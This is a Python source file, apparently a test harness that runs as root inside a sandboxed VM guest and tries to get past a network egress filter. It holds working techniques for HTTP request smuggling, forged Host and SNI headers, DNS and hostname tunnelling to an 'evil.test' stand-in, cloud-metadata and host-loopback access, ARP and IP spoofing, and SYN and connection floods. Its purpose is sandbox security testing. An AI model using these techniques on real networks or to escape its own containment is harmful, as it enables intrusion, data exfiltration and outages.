"""Runs inside a guest, as root: `python3 attacker.py ATTACK ARGUMENTS`. Tries to get out, and prints what came back.

Standard library only. Not a test: what reached whom is read from the servers' side (`test_attacks.py`).
"""

from __future__ import annotations

import contextlib
import json
import os
import random
import select
import socket
import ssl
import struct
import subprocess
import sys
import time
from pathlib import Path

DOOR, GUEST = "10.177.0.1", "10.177.0.2"
GUEST_MAC, DOOR_MAC = bytes.fromhex("02fd00000002"), bytes.fromhex("02fd00000001")
PATIENCE_S = 6.0


def request(host: str, path: str = "/", extra: str = "") -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{extra}\r\n".encode()


def tcp(address: str, port: int, *pieces: bytes, sni: str | None = None) -> str:
    """What was answered to each piece, or how it failed."""
    answers = []
    try:
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        with socket.socket(family, socket.SOCK_STREAM) as raw:
            raw.settimeout(PATIENCE_S)
            raw.connect((address, port))
            connection = raw
            if sni is not None:
                context = ssl.create_default_context()
                context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
                connection = context.wrap_socket(raw, server_hostname=sni or None)
            for piece in pieces:
                connection.sendall(piece)
                answers.append(connection.recv(4096).decode("latin-1"))
    except OSError as error:
        answers.append(f"! {error}")
    return " | ".join(answers)


def question(name: str, kind: int = 1) -> bytes:
    labels = b"".join(bytes([len(label)]) + label for label in name.encode().split(b".")) + b"\0"
    return struct.pack("!HHHHHH", random.randrange(65536), 0x0100, 1, 0, 0, 0) + labels + struct.pack("!HH", kind, 1)


def addresses(answer: bytes) -> list[str]:
    """Of an answer with one question."""
    (count,) = struct.unpack("!H", answer[6:8])
    at = answer.index(b"\0", 12) + 5
    found = []
    for _ in range(count):
        kind, _, _, size = struct.unpack("!HHIH", answer[at + 2 : at + 12])
        if kind == 1:
            found.append(socket.inet_ntoa(answer[at + 12 : at + 16]))
        at += 12 + size
    return found


def udp(address: str, port: int, data: bytes, patience_s: float = 1.5) -> bytes | None:
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(patience_s)
        try:
            one.sendto(data, (address, port))
            return one.recv(65536)
        except OSError:
            return None


def dns(address: str, port: int, name: str, kind: int = 1) -> object:
    answer = udp(address, port, question(name, kind))
    return None if answer is None else {"rcode": answer[3] & 15, "addresses": addresses(answer)}


def dns_tcp(address: str, name: str) -> object:
    data = question(name)
    try:
        with socket.create_connection((address, 53), timeout=PATIENCE_S) as one:
            one.sendall(struct.pack("!H", len(data)) + data)
            answer = one.recv(4096)[2:]
            return {"rcode": answer[3] & 15, "addresses": addresses(answer)}
    except (OSError, IndexError) as error:
        return f"! {error}"


# ── attacks ──────────────────────────────────────────────────────────────────────────────────────────────────────


def names_and_hosts(good: str, evil: str) -> dict[str, object]:
    """By address, by a name that is not its own, by a second request behind the first."""
    get, post = request("good.test"), "POST / HTTP/1.1\r\nHost: good.test\r\n"
    hidden = request("evil.test")
    return {
        "allowed": tcp(good, 80, get),
        "allowed tls": tcp(good, 443, get, sni="good.test"),
        "raw address": tcp(evil, 80, request(evil)),
        "raw address, opaque": tcp(evil, 9000, b"hello\n"),
        "raw address, silent": tcp(evil, 22, b""),
        "raw address, tls without a name": tcp(evil, 443, get, sni=""),
        "tls to a name that is not allowed": tcp(evil, 443, get, sni="evil.test"),
        "forged sni": tcp(evil, 443, get, sni="good.test"),
        "forged host": tcp(evil, 80, get),
        "forged host, other port": tcp(evil, 8080, get),
        "wrong host at an allowed address": tcp(good, 80, hidden),
        "second request": tcp(good, 80, get, hidden),
        "pipelined request": tcp(good, 80, get + hidden),
        "absolute address": tcp(good, 80, b"GET http://evil.test/ HTTP/1.1\r\nHost: good.test\r\n\r\n"),
        "two hosts": tcp(good, 80, request("good.test", extra="Host: evil.test\r\n")),
        "folded host": tcp(good, 80, b"GET / HTTP/1.1\r\nX: y\r\n Host: z\r\nHost: good.test\r\n\r\n" + hidden),
        "connect": tcp(good, 80, b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"),
        "smuggled by two lengths": tcp(
            good, 80, f"{post}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".encode() + hidden
        ),
        "smuggled in chunks": tcp(
            good, 80, f"{post}Transfer-Encoding: chunked\r\n\r\n1;\r\nx\r\n0\r\n\r\n".encode() + hidden
        ),
        "smuggled by a bare line feed": tcp(good, 80, b"GET / HTTP/1.1\nHost: good.test\n\n" + hidden),
        "one byte at a time": _slowly(good, hidden),
        "first bytes late": _late(evil, get),
        "tls hello in tiny records": _tiny_records(evil),
        "http on the tls port": tcp(evil, 443, hidden),
        "dns over tls": tcp(evil, 853, question("evil.test"), sni="dns.evil.test"),
        "dns over https": tcp(evil, 443, request("dns.evil.test", "/dns-query"), sni="dns.evil.test"),
        "websocket, then another host": _upgraded(good, hidden),
    }


def odd_bytes(good: str) -> dict[str, object]:
    """Requests and hellos that are none to the letter, to an address that an allowed name gave."""
    dns(DOOR, 53, "good.test")
    hidden = request("evil.test")
    behind = {
        "letters of another alphabet": b"GET /\xc3\xa9 HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "a first request with one, and a second": b"GET /\xff HTTP/1.1\r\nHost: good.test\r\n\r\n" + hidden,
        "a control character": b"GET /\x01 HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "other spaces": b"GET\xa0/\xa0HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        "a vertical tab before": b"\x0b" + hidden,
        "a form feed before": b"\r\n\x0c" + hidden,
        "a line of nothing before": b"\0\r\n" + hidden,
        "a request without version before": b"GET /\r\n" + hidden,
        "header of the proxy protocol": b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n" + hidden,
        "binary header of the proxy protocol": b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c" + bytes(12) + hidden,
        "two upgrades": request(
            "good.test",
            extra="Connection: upgrade\r\nUpgrade: websocket\r\nUpgrade: h2c evil\r\nHTTP2-Settings: evil\r\n",
        ),
    }
    found: dict[str, object] = {name: tcp(good, 80, data) for name, data in behind.items()}
    for name, before in (("an alert before the hello", b"\x15\3\1\0\2\1\x64"), ("another version", b"\x16\2\0")):
        found[name] = _odd_hello(good, before, hidden)
    with socket.create_connection((good, 80), timeout=PATIENCE_S) as one:
        for piece, flags in ((b"GE", 0), (b"!", socket.MSG_OOB), (b"T / HTTP/1.1\r\nHost: evil.test\r\n\r\n", 0)):
            with contextlib.suppress(OSError):
                one.send(piece, flags)
        with contextlib.suppress(OSError):
            found["urgent data"] = one.recv(4096).decode("latin-1")
    found["still works"] = tcp(good, 80, request("good.test"))
    return found


def _odd_hello(address: str, before: bytes, data: bytes) -> str:
    """A hello for a forbidden name with this before it, or instead of its own beginning."""
    inward, outward = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    tls = context.wrap_bio(inward, outward, server_hostname="evil.test")
    try:
        with socket.create_connection((address, 443), timeout=PATIENCE_S) as one:
            for step in (tls.do_handshake, lambda: tls.write(data), lambda: tls.read(4096)):
                while True:
                    try:
                        answer = step()
                        break
                    except ssl.SSLWantReadError:
                        sent = outward.read()
                        one.sendall(before + sent[3 if before[0] == 0x16 else 0 :] if before else sent)
                        before = b""
                        if not (received := one.recv(65536)):
                            return "! hung up"
                        inward.write(received)
                one.sendall(outward.read())
            return bytes(answer or b"").decode("latin-1")
    except OSError as error:
        return f"! {error}"


def _slowly(address: str, data: bytes) -> str:
    try:
        with socket.create_connection((address, 80), timeout=PATIENCE_S) as one:
            one.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            for byte in data:
                one.sendall(bytes([byte]))
                time.sleep(0.002)
            return one.recv(4096).decode("latin-1")
    except OSError as error:
        return f"! {error}"


def _late(address: str, data: bytes) -> str:
    """The door cannot wait for ever; what it does then must not be to let it through."""
    try:
        with socket.create_connection((address, 80), timeout=PATIENCE_S) as one:
            time.sleep(3)
            one.sendall(data)
            return one.recv(4096).decode("latin-1")
    except OSError as error:
        return f"! {error}"


def _tiny_records(address: str) -> str:
    """A hello for a forbidden name, a few bytes per record and packet."""
    inward, outward = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    tls = context.wrap_bio(inward, outward, server_hostname="evil.test")
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    hello = outward.read()[5:]
    try:
        with socket.create_connection((address, 443), timeout=PATIENCE_S) as one:
            for at in range(0, len(hello), 16):
                part = hello[at : at + 16]
                one.sendall(b"\x16\x03\x01" + struct.pack("!H", len(part)) + part)
                time.sleep(0.002)
            return one.recv(4096).hex()[:40]
    except OSError as error:
        return f"! {error}"


def _upgraded(address: str, data: bytes) -> str:
    upgrade = "Connection: upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: eA==\r\nSec-WebSocket-Version: 13\r\n"
    return tcp(address, 80, request("good.test", extra=upgrade), data)


def dns_ways(good: str, evil: str) -> dict[str, object]:
    found: dict[str, object] = {
        "door": dns(DOOR, 53, "good.test"),
        "other server": dns(evil, 53, "good.test"),
        "other server, tcp": dns_tcp(evil, "good.test"),
        "forbidden": dns(DOOR, 53, "evil.test"),
        "forbidden, other server": dns(evil, 53, "evil.test"),
        "forbidden, tcp": dns_tcp(evil, "evil.test"),
        "other port": dns(evil, 5353, "good.test"),
        "aaaa": dns(DOOR, 53, "good.test", 28),
        "txt": dns(DOOR, 53, "secret.evil.test", 16),
        "any": dns(DOOR, 53, "evil.test", 255),
        "reverse": dns(DOOR, 53, "3.0.0.11.in-addr.arpa", 12),
    }
    for name in ("rebind", "loop", "host", "meta", "mixed"):
        found[name] = dns(DOOR, 53, f"{name}.good.test")
    found["rebind, connected"] = tcp("10.66.0.1", 80, request("rebind.good.test"))
    found["host, connected"] = tcp("11.0.0.1", 8080, request("host.good.test"))
    return found


def name_tunnel(address: str, name: str, count: int) -> int:
    """Data in the names that connections claim to be for, by Host and by SNI in turn; how many were told."""
    for number in range(count):
        label = f"{number:05}" + os.urandom(20).hex()
        if number % 2:
            tcp(address, 80, request(f"{label}.{name}"))
        else:
            tcp(address, 443, sni=f"{label}.{name}")
    return count


def denied_name(good: str, evil: str) -> dict[str, str]:
    """Everything is open but one name: to its address, under no name and under another."""
    return {
        "asked for": str(dns(DOOR, 53, "evil.test")),
        "host": tcp(evil, 80, request("evil.test")),
        "address": tcp(evil, 80, request(evil)),
        "odd byte": tcp(evil, 80, b"GET /\xff HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
        "sni": tcp(evil, 443, request("evil.test"), sni="evil.test"),
        "no sni": tcp(evil, 443, request("evil.test"), sni=""),
        "opaque": tcp(evil, 9000, b"\0evil\n"),
        "first bytes late": _late(evil, request("evil.test")),
        "forged host": tcp(evil, 80, request("good.test", "/from-evil")),
        "forged sni": tcp(evil, 443, request("good.test"), sni="good.test"),
        "through another": tcp(good, 80, b"GET /\xff HTTP/1.1\r\nHost: evil.test\r\n\r\n"),
        "still open": tcp(good, 9000, b"hello\n"),
    }


def unseen(good: str) -> dict[str, str]:
    """What is recorded is to pass the eye of the door."""
    dns(DOOR, 53, "good.test")
    return {
        "recorded": tcp(good, 80, request("good.test", "/seen")),
        "odd byte": tcp(good, 80, b"GET /unseen\xff HTTP/1.1\r\nHost: good.test\r\n\r\n"),
        "two hosts": tcp(good, 80, request("good.test", "/unseen", "Host: good.test\r\n")),
        "another port": tcp(good, 9000, b"\x0bGET /unseen HTTP/1.1\r\nHost: good.test\r\n\r\n"),
        "first bytes late": _late(good, request("good.test", "/late")),
        "no sni": tcp(good, 443, request("good.test", "/unseen"), sni=""),
    }


def dns_tunnel(name: str, count: int) -> int:
    """Data in names, as fast as they go; how many were answered."""
    answered = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        for number in range(count):
            label = f"{number:05}" + os.urandom(20).hex()
            with contextlib.suppress(OSError):
                one.sendto(question(f"{label}.{name}"), (DOOR, 53))
            while select.select([one], [], [], 0.002)[0]:
                with contextlib.suppress(OSError):
                    answered += one.recv(4096)[3] & 15 == 0
        until = time.monotonic() + 2
        while time.monotonic() < until and select.select([one], [], [], 0.5)[0]:
            with contextlib.suppress(OSError):
                answered += one.recv(4096)[3] & 15 == 0
    return answered


def places(
    good: str, evil: str, private: str, metadata: str, host: str, evil6: str, api_port: str
) -> dict[str, object]:
    """Addresses that no name leads to: the host, its loopback, its networks, the door itself, IPv6."""
    found: dict[str, object] = {
        "private network": tcp(private, 80, request(private)),
        "private network, forged host": tcp(private, 80, request("good.test")),
        "metadata": tcp(metadata, 80, request(metadata, "/latest/meta-data/")),
        "metadata, opaque": tcp(metadata, 9000, b"hello"),
        "host's own address": tcp(host, 8080, request(host)),
        "host's api": tcp(host, api_port, request("localhost", "/api/v1/health")),
        "other guest": tcp("10.177.0.6", 22, b"x"),
        "broadcast": tcp("255.255.255.255", 80, b"x"),
        "zero": tcp("0.0.0.1", 80, request("good.test")),
    }
    for port in (1, 22, 80, 111, 443, 2049, 4400, 7022, 7070, api_port, 8080, 65535):
        found[f"door {port}"] = tcp(DOOR, port, request(DOOR, "/api/v1/health"))
    # The host's loopback: make our own kernel send packets for 127.0.0.9 out, as only root can.
    for rule in ("add pref 100 lookup local", "del pref 0", "add pref 50 to 127.0.0.9/32 lookup 77"):
        _ip(f"rule {rule}")
    _ip("route add 127.0.0.9/32 via 10.177.0.1 dev eth0 src 10.177.0.2 table 77")
    found["host's loopback"] = tcp("127.0.0.9", 8080, request("127.0.0.9"))
    for rule in ("add pref 0 lookup local", "del pref 50", "del pref 100"):
        _ip(f"rule {rule}")
    for name in ("all", "eth0"):
        Path(f"/proc/sys/net/ipv6/conf/{name}/disable_ipv6").write_text("0")
    _ip("-6 addr add 2a00:11::9/64 dev eth0 nodad")
    _ip("-6 route add default via fe80::1 dev eth0")
    _ip(f"-6 neigh replace fe80::1 lladdr {DOOR_MAC.hex(':')} dev eth0")
    _ip(f"-6 neigh replace {evil6} lladdr {DOOR_MAC.hex(':')} dev eth0")
    found["ipv6"] = tcp(evil6, 80, request("good.test"))
    found["ipv6 udp"] = str(udp(evil6, 9000, b"hello"))
    found["ipv6 dns"] = str(udp(evil6, 53, question("good.test")))
    return found


def _ip(arguments: str) -> None:
    subprocess.run(["ip", *arguments.split()], check=False, capture_output=True)


def checksum(data: bytes) -> int:
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip_packet(source: str, to: str, protocol: int, body: bytes, *, options: bytes = b"", fragment: int = 0) -> bytes:
    length = 20 + len(options)
    head = bytearray(
        struct.pack(
            "!BBHHHBBH", 0x40 | length // 4, 0, length + len(body), random.randrange(65536), fragment, 64, protocol, 0
        )
        + socket.inet_aton(source)
        + socket.inet_aton(to)
        + options
    )
    head[10:12] = struct.pack("!H", checksum(bytes(head)))
    return bytes(head) + body


def udp_body(source: str, to: str, port: int, data: bytes) -> bytes:
    head = struct.pack("!HHHH", 4321, port, 8 + len(data), 0)
    fake = socket.inet_aton(source) + socket.inet_aton(to) + struct.pack("!BBH", 0, 17, 8 + len(data))
    return head[:6] + struct.pack("!H", checksum(fake + head + data) or 0xFFFF) + data


def syn_body(source: str, to: str, port: int, own_port: int, flags: int = 2) -> bytes:
    head = struct.pack("!HHIIBBHHH", own_port, port, random.randrange(1 << 32), 0, 5 << 4, flags, 64240, 0, 0)
    fake = socket.inet_aton(source) + socket.inet_aton(to) + struct.pack("!BBH", 0, 6, len(head))
    return head[:16] + struct.pack("!H", checksum(fake + head)) + head[18:]


class Wire:
    """Frames as they are, past our own kernel's opinion of them."""

    def __init__(self) -> None:
        self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self._socket.bind(("eth0", 0))
        self.sent = 0

    def send(self, packet: bytes, *, source: bytes = GUEST_MAC, to: bytes = DOOR_MAC, kind: int = 0x0800) -> None:
        with contextlib.suppress(OSError):
            self._socket.send(to + source + struct.pack("!H", kind) + packet)
            self.sent += 1


def packets(good: str, evil: str, host: str) -> dict[str, object]:
    """UDP, ICMP and other protocols; forged sources, MACs, ARP; options and fragments."""
    found: dict[str, object] = {}
    for port in (123, 443, 5353, 9000):
        found[f"udp {port}"] = str(udp(evil, port, b"out", 0.3)) + str(udp(good, port, b"out", 0.3))
    wire = Wire()
    echo = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + b"x" * 32
    echo = echo[:2] + struct.pack("!H", checksum(echo)) + echo[4:]
    for to in (good, evil, host, "255.255.255.255", "224.0.0.251"):
        wire.send(ip_packet(GUEST, to, 1, echo))
        for protocol in (2, 4, 41, 47, 50, 89, 132, 255):
            wire.send(ip_packet(GUEST, to, protocol, b"y" * 32))
    for source in (evil, host, DOOR, "127.0.0.1", "0.0.0.0", "8.8.8.8"):
        for to in (good, evil):
            wire.send(ip_packet(source, to, 17, udp_body(source, to, 9000, b"spoofed")))
            wire.send(ip_packet(source, to, 17, udp_body(source, to, 53, question("evil.test"))))
            for flags in (2, 16, 18, 4, 1, 0, 63):
                wire.send(ip_packet(source, to, 6, syn_body(source, to, 80, random.randrange(1024, 65536), flags)))
    for mac in (DOOR_MAC, os.urandom(6), b"\xff" * 6):
        wire.send(ip_packet(GUEST, evil, 17, udp_body(GUEST, evil, 9000, b"mac")), source=mac)
        wire.send(ip_packet(GUEST, evil, 17, udp_body(GUEST, evil, 9000, b"mac")), to=mac)
    for claimed in (DOOR, GUEST, good, "10.177.0.3"):
        arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + os.urandom(6) + socket.inet_aton(claimed)
        for _ in range(20):
            wire.send(arp + DOOR_MAC + socket.inet_aton(DOOR), to=b"\xff" * 6, kind=0x0806)
    inner = ip_packet(GUEST, evil, 17, udp_body(GUEST, evil, 9000, b"vlan"))
    wire.send(struct.pack("!HH", 1, 0x0800) + inner, kind=0x8100)
    wire.send(b"\x60" + os.urandom(60), kind=0x86DD)
    for kind in (0x8847, 0x8864, 0x88CC, 0x0842, 0x9000):
        wire.send(inner, kind=kind)
    for options in (
        b"\x83\x0b\x04" + socket.inet_aton(evil) + socket.inet_aton(good) + b"\0",  # loose source route
        b"\x89\x07\x04" + socket.inet_aton(evil) + b"\0",  # strict source route
        b"\x07\x0b\x04" + b"\0" * 9,  # record route
        b"\x44\x0c\x05\x00" + b"\0" * 8,  # timestamp
        b"\xff" * 40,
    ):
        padded = options + b"\0" * (-len(options) % 4)
        wire.send(ip_packet(GUEST, good, 17, udp_body(GUEST, good, 9000, b"options"), options=padded))
        wire.send(ip_packet(GUEST, good, 6, syn_body(GUEST, good, 80, 5555), options=padded))
    body = udp_body(GUEST, evil, 9000, b"f" * 64)
    for pieces in ([(0, body[:8], 1), (1, body[8:], 0)], [(0, body[:16], 1), (1, b"z" * 16, 1), (2, body[16:], 0)]):
        for offset, part, more in pieces:
            wire.send(ip_packet(GUEST, evil, 17, part, fragment=more << 13 | offset))
    syn = syn_body(GUEST, evil, 80, 6666)
    for offset, part, more in ((0, syn[:8], 1), (1, syn[8:], 0), (8189, b"x" * 64, 0)):
        wire.send(ip_packet(GUEST, evil, 6, part, fragment=more << 13 | offset))
    for _ in range(2000):
        wire.send(os.urandom(random.randrange(1, 1400)), kind=random.choice((0x0800, 0x0806, 0x86DD)))
    found["sent"] = wire.sent
    found["still works"] = tcp(good, 80, request("good.test"))
    return found


def many_connections(address: str, port: int, count: int, seconds: float) -> dict[str, int]:
    """As many as there can be, all left open as long as they last."""
    import resource

    resource.setrlimit(resource.RLIMIT_NOFILE, (count + 100, count + 100))
    outcome = {"opened": 0, "refused": 0}
    held: list[socket.socket] = []
    until = time.monotonic() + seconds
    while len(held) < count and time.monotonic() < until:
        one = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        one.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            try:
                one.connect((address, port))
            except OSError as error:
                if not isinstance(error, BlockingIOError):
                    outcome["refused"] += 1
        held.append(one)
    outcome["tried"] = len(held)
    time.sleep(1)
    for one in held:
        state = one.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0]
        outcome["opened"] += state == 1
    return outcome


def half_open(address: str, seconds: float) -> int:
    """Beginnings of connections that nobody goes on with: without an address our own kernel does not answer."""
    _ip("addr del 10.177.0.2/30 dev eth0")
    wire, until = Wire(), time.monotonic() + seconds
    while time.monotonic() < until:
        port = 80 if wire.sent % 2 else 53
        wire.send(ip_packet(GUEST, address, 6, syn_body(GUEST, address, port, random.randrange(1024, 65536))))
    _ip("addr add 10.177.0.2/30 dev eth0")
    _ip("route add default via 10.177.0.1")
    return wire.sent


def giant_dns(good: str) -> dict[str, object]:
    """Questions that are too long, lie about their length, or never end."""
    found: dict[str, object] = {}
    loop = struct.pack("!HHHHHH", 1, 256, 1, 0, 0, 0) + b"\xc0\x0c\0\x01\0\x01"
    many = struct.pack("!HHHHHH", 1, 256, 65535, 65535, 65535, 65535) + b"\0" * 1000
    for name, data in (
        ("loop", loop),
        ("many", many),
        ("4 kB", question("good.test") + b"\0" * 4000),
        ("60 kB", question("good.test") + b"\0" * 60000),
        ("nothing", b""),
        ("noise", os.urandom(600)),
    ):
        found[name] = str(udp(DOOR, 53, data, 0.3))[:60]
    held = []
    for _ in range(60):
        with contextlib.suppress(OSError):
            one = socket.create_connection((DOOR, 53), timeout=1)
            one.sendall(b"\xff\xff" + os.urandom(1000))
            held.append(one)
    found["tcp held"] = len(held)
    for _ in range(3000):
        udp(DOOR, 53, os.urandom(random.randrange(1, 1300)), 0)
    time.sleep(1)
    found["still works"] = dns(DOOR, 53, "good.test")
    return found


if __name__ == "__main__":
    attack = globals()[sys.argv[1]]
    arguments = [int(word) if word.isdecimal() else word for word in sys.argv[2:]]
    print(json.dumps(attack(*arguments)))
